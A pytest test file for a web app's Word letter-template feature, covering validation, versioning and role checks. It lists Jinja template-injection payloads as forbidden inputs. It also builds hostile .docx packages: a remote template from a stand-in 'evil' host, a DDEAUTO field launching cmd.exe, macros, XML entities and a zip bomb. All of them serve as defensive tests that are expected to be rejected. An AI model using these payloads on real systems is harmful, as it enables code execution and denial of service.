"""Templates that a clerk changed: looked at before anything of them runs, kept as versions, put in force and out."""

import zipfile
from io import BytesIO

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from sqlalchemy import select

from inspect_app.core import clock
from inspect_app.core.actor import Role
from inspect_app.core.audit import Event
from inspect_app.core.errors import Invalid, NotAllowed, Stale
from inspect_app.core.storage import Incoming
from inspect_app.documents.queries.letters import KINDS
from inspect_app.documents.services import apart, templates, word
from inspect_app.documents.services.house_word import house_template
from inspect_app.documents.services.package import LARGEST, refuse_what_lives
from inspect_app.units.models import UnitKind
from inspect_app.visits.models import VisitState

KIND = KINDS["conclusion"]
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def written(*paragraphs: str, cell: str = "") -> bytes:
    """A .docx with these paragraphs, and a table of one cell."""
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if cell:
        document.add_table(rows=1, cols=1).rows[0].cells[0].text = cell
    packed = BytesIO()
    document.save(packed)
    return packed.getvalue()


def faults(*paragraphs: str, cell: str = "") -> list[tuple[str, str]]:
    """(what is wrong, the tag)."""
    found = apart.check(written(*paragraphs, cell=cell), dict(KIND.sample))
    return [(one["code"], one["tag"]) for one in found]


def repacked(content: bytes, **changed: bytes) -> bytes:
    """The package with parts replaced or added; `word/x.xml` is said as `word__x.xml`."""
    packed = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        parts = {name: old.read(name) for name in old.namelist()}
        parts |= {name.replace("__", "/"): part for name, part in changed.items()}
        for name, part in parts.items():
            new.writestr(name, part)
    return packed.getvalue()


FAULTS = {
    "{{ don_v }}": [("unknown", "don_v")],
    "{{ don_vi.ten }}": [("unknown", "don_vi.ten")],
    "{{ han_che }}": [("list", "han_che")],
    "{% for x in don_vi %}{{ x }}{% endfor %}": [("no_list", "don_vi")],
    "{%p for hc in han_che %}": [("no_end", "{%p for hc in han_che %}")],
    "{%p endfor %}": [("no_start", "{%p endfor %}")],
    "{{ don_vi }": [("unclosed", "{{ don_vi }")],
    "{{ don_vi + }}": [("syntax", "{{ don_vi + }}")],
    "{% for a in han_che %}{% for b in han_che %}{% endfor %}{% endfor %}": [("nested", "han_che")],
}


def test_a_fault_is_named():
    assert {text: faults(text)[:1] for text in FAULTS} == FAULTS


FORBIDDEN = [
    "{{ ''.__class__ }}",
    "{{ don_vi.__class__.__mro__ }}",
    "{{ self }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ don_vi.upper() }}",
    "{{ don_vi['__class__'] }}",
    "{{ don_vi|attr('__class__') }}",
    "{{ 'a' * 1000000000 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ range(1000000000) }}",
    "{% for x in range(1000000000) %}{% endfor %}",
    "{% for x in han_che recursive %}{{ loop(x) }}{% endfor %}",
    "{% set x = don_vi %}",
    "{% macro m() %}{% endmacro %}",
    "{% include 'house.typ' %}",
    "{% extends don_vi %}",
    "{% import 'os' as os %}",
    "{% filter upper %}{% endfilter %}",
    "{{ don_vi|map('upper') }}",
    "{{ don_vi is callable }}",
    "{% colspan don_vi %}",
    "{% vm %}",
    "{{ don_vi ~ don_vi }}",
    "{{ (don_vi, don_vi) }}",
    "{% raw %}{{ don_vi }}{% endraw %}",
]


def test_what_a_template_may_not_do_is_refused_before_it_runs():
    found = apart.check(written(*FORBIDDEN), dict(KIND.sample))
    named = {one["place"]["paragraph"] for one in found}
    assert [text for number, text in enumerate(FORBIDDEN, 1) if number not in named] == []


def test_tags_hidden_from_the_eye_are_looked_at_as_they_would_run():
    """In the properties of the file, in a header, or put together from pieces of several paragraphs."""
    packed = BytesIO()
    document = Document()
    document.core_properties.title = "{{ ''.__class__ }}"
    document.save(packed)
    assert apart.check(packed.getvalue(), dict(KIND.sample)) != []
    packed, document = BytesIO(), Document()
    document.sections[0].header.paragraphs[0].text = "{{ la }}"
    document.save(packed)
    (told,) = apart.check(packed.getvalue(), dict(KIND.sample))
    assert (told["code"], told["tag"], told["place"]["part"]) == ("unknown", "la", "header")
    assert faults("{{ ''.__", "class__ }}") != []
    packed, document = BytesIO(), Document()
    run = document.add_paragraph("an toàn").runs[0]
    run._r.append(OxmlElement("w:tab"))
    run._r.set(qn("w:rsidR"), "{{ ''.__class__ }}")
    document.save(packed)
    assert apart.check(packed.getvalue(), dict(KIND.sample)) != []


def test_what_a_clerk_may_do_passes_and_is_filled():
    text = "{% if nhan_xet and don_vi != '' %}{{ don_vi|upper }}{% else %}–{% endif %}"
    rows = "{% for hc in han_che %}{{ loop.index }}. {{ hc.ma }}{% if not loop.last %}; {% endif %}{% endfor %}"
    nested = "{% for lv in linh_vuc %}{{ lv.ten }}: {% for hc in lv.han_che %}{{ hc.ma }} {% endfor %}{% endfor %}"
    template = written(text, rows, nested)
    assert apart.check(template, dict(KIND.sample)) == []
    filled = word.fill(template, KIND.sample, lines=True)
    assert filled.lines == [
        ["UBND PHƯỜNG CÁI KHẾ"],
        ["1. HC-2026-0007"],
        ["cải cách thủ tục hành chính: HC-2026-0007 HC-2026-0008"],
    ]


def test_a_fault_has_its_place():
    found = apart.check(written("Một", "{{ don_v }}", cell="{{ la }}"), dict(KIND.sample))
    places = [{name: one["place"].get(name) for name in ("paragraph", "table", "row", "column")} for one in found]
    assert places == [
        {"paragraph": 2, "table": None, "row": None, "column": None},
        {"paragraph": None, "table": 1, "row": 1, "column": 1},
    ]
    assert templates.near(KIND, "don_v") == "don_vi"
    assert templates.near(KIND, "hc.noi_dun") == "noi_dung"
    assert templates.near(KIND, "zzzzzz") == ""


def test_a_template_that_takes_forever_is_stopped(monkeypatch):
    monkeypatch.setattr(word, "LONGEST", 0.01)
    with pytest.raises(word.Unfit):
        word.check(house_template(KIND), KIND)


def test_packages_that_carry_more_than_words_are_refused():
    house = house_template(KIND)
    refuse_what_lives(house)
    relation = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    field = b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    hostile = {
        "macros": repacked(house, **{"word__vbaProject.bin": b"x"}),
        "objects": repacked(house, **{"word__embeddings__oleObject1.bin": b"x"}),
        "template elsewhere": repacked(house, **{"word___rels__settings.xml.rels": relation}),
        "field that starts programs": repacked(house, **{"word__comments.xml": field}),
        "entities": repacked(house, **{"word__footnotes.xml": entity}),
        "other encoding": repacked(house, **{"word__footnotes.xml": "<?xml version='1.0'?><x/>".encode("utf-16")}),
        "bomb": repacked(house, **{"word__media__image1.png": b"\0" * (41 << 20)}),
        "no document": b"PK\x05\x06" + b"\0" * 18,
        "no package": b"khong phai Word",
        "too large": b"\0" * (LARGEST + 1),
    }
    let_in = []
    for name, content in hostile.items():
        try:
            refuse_what_lives(content)
            let_in.append(name)
        except Invalid:
            pass
    assert let_in == []


def test_a_changed_template_goes_from_upload_to_letters_and_back(make, browser, session):
    unit = make.unit("Phường Cái Khế")
    visit = make.visit(VisitState.BEGUN, unit=unit)
    browser.signed_in_as(make.reviewer)
    page = browser.get("documents.conclusion", visit_id=visit.id, ending="pdf")
    assert page.headers["Content-Disposition"] == "attachment; filename=Thong-bao-ket-luan_Phuong-Cai-Khe.pdf"
    (taken,) = session.scalars(select(Event).where(Event.action == "person:take_document")).all()
    told = {name: taken.payload[name] for name in ("kind", "of", "format", "template")}
    assert told == {"kind": "conclusion", "of": visit.id, "format": "pdf", "template": 0}
    assert f"/documents/conclusion/{visit.id}.pdf" in browser.get("visits.show", visit_id=visit.id).text

    def send(content: bytes, status: int):
        file = (BytesIO(content), "mau.docx", WORD)
        data = {"files": file, "note": "Thêm dòng"}
        return browser.post("letter_templates.show", code="conclusion", data=data, status=status)

    refused = send(written("Kính gửi {{ don_v }}"), 422)
    assert "Không có trường “don_v”. Có phải “don_vi”?" in refused.main
    assert "Đoạn 1: Kính gửi {{ don_v }}" in refused.main
    browser.post("letter_templates.show", code="conclusion", data={"files": (BytesIO(b"x"), "a.pdf")}, status=422)

    accepted = send(written("Gửi {{ don_vi }}", cell="{{ so_ky_hieu }}"), 303)
    template_id = int(accepted.location.rpartition("/")[2])
    seen = browser.get("letter_templates.version", template_id=template_id).main
    assert "Gửi UBND phường Cái Khế" in seen
    assert "/documents/conclusion" in browser.get("visits.show", visit_id=visit.id).text
    browser.post("letter_templates.adopt", template_id=template_id, data={"seen": ""})
    assert ".pdf" not in browser.get("visits.show", visit_id=visit.id).html.select_one(".letters li").decode()
    browser.get("documents.conclusion", visit_id=visit.id, ending="pdf", status=409)
    browser.get("documents.conclusion", visit_id=visit.id, ending="docx")
    browser.post("letter_templates.adopt", template_id=template_id, data={"seen": ""}, status=409)
    assert "Đang dùng bản sửa số 1" in browser.get("letter_templates.show", code="conclusion").main
    browser.post("letter_templates.retire", code="conclusion", data={"seen": template_id})
    browser.get("documents.conclusion", visit_id=visit.id, ending="pdf")
    of_templates = select(Event.action).where(Event.subject_table == "letter_template")
    deeds = session.scalars(of_templates.order_by(Event.seq)).all()
    assert deeds == ["letter_template:upload", "letter_template:adopt", "letter_template:retire"]


def test_only_a_reviewer_over_everything_keeps_templates(make, app):
    district = make.unit("Quận Ninh Kiều", kind=UnitKind.DISTRICT)
    there = make.actor(make.person(Role.REVIEWER, district))
    file = Incoming("mau.docx", WORD, BytesIO(house_template(KIND)))
    with pytest.raises(NotAllowed):
        templates.look(KIND, file, actor=there)
    keeper = make.actor(make.reviewer)
    kept = {"note": "", "actor": keeper, "now": clock.now(), "storage": app.extensions["storage"]}
    one = templates.upload(KIND, house_template(KIND), name="mau.docx", **kept)
    two = templates.upload(KIND, house_template(KIND), name="mau.docx", **kept)
    assert (one.ordinal, two.ordinal) == (1, 2)
    told = {"actor": keeper, "today": clock.today()}
    templates.adopt(one, seen=0, **told)
    with pytest.raises(Stale):
        templates.adopt(two, seen=0, **told)
    templates.adopt(two, seen=one.id, **told)
    assert (one.in_force, two.in_force) == (False, True)
